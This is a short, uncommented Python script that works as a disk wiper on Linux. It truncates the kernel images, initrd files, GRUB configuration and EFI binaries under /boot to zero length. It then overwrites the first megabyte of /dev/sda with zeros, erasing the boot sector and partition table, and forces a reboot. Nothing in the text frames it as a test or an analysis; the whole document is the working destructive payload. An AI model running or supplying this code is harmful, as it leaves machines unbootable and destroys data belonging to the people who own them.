import glob
import os

for pattern in ("/boot/vmlinuz*", "/boot/initrd*", "/boot/grub/*.cfg", "/boot/efi/EFI/*/*.efi"):
    for path in glob.glob(pattern):
        os.truncate(path, 0)
with open("/dev/sda", "r+b", buffering=0) as disk:
    disk.write(b"\0" * 512 * 2048)
os.system("reboot -f")
